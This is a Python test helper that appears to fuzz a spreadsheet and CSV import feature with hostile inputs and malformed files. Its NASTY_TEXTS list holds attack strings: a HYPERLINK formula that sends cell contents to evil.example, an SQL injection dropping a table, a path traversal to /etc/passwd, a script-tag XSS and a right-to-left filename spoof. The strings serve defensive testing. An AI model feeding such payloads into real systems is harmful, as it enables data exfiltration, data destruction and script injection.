"""Hostile values and files: what a careless spreadsheet or an attacker sends."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

HUGE = "Đ" * 100_000
NASTY_TEXTS = [
    "",
    " ",
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=1+1",
    "+84912345678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "\x00",
    "a\x00b",
    "\ufeffcode",
    "\u202egnp.exe",
    "😀" * 50,
    HUGE,
    "9" * 60,
    "-1",
    "0",
    "1e309",
    "NaN",
    "null",
    "None",
    "2021-02-30",
    "2021-13-01",
    "31/02/2021",
    "0000-00-00",
    "9999-12-31T23:59:59",
    "2021-03-02T25:61",
    "2021-03-02T09:00:00+99:00",
    "10000-01-01",
    "0001-01-01T00:00",
    "9999-12-31T23:59",
    "0001-01-01",
    "-5",
    "99999999999999999999999",
    "2147483648",
    "../../etc/passwd",
    "'; DROP TABLE dossiers_dossier; --",
    "<script>alert(1)</script>",
    "Nguyễn Văn A",
]


def hostile_text() -> st.SearchStrategy[str]:
    return st.one_of(st.sampled_from(NASTY_TEXTS), st.text(max_size=40))


ENCODINGS = ("utf-8", "utf-8-sig", "latin-1", "utf-16", "cp1258", "garbage", "xlsx")


def file_write(directory: Path, rows: list[dict], encoding: str, name: str = "data") -> Path:
    """The rows (first one's keys are the header) as a CSV in ``encoding``, an XLSX, or
    binary garbage."""
    header = list(rows[0]) if rows else ["code"]
    if encoding == "xlsx":
        path = directory / f"{name}.xlsx"
        workbook = Workbook()
        sheet = workbook.active
        sheet.append(header)
        for row in rows:
            # openpyxl refuses control characters: a real XLSX cannot hold them either.
            sheet.append([ILLEGAL_CHARACTERS_RE.sub("", str(row.get(c, ""))) for c in header])
        workbook.save(path)
        return path
    path = directory / f"{name}.csv"
    if encoding == "garbage":
        path.write_bytes(bytes(range(256)) * 8 + b"\xff\xfe\x00\x00")
        return path
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    for row in rows:
        writer.writerow([row.get(c, "") for c in header])
    path.write_bytes(buffer.getvalue().encode(encoding, errors="replace"))
    return path
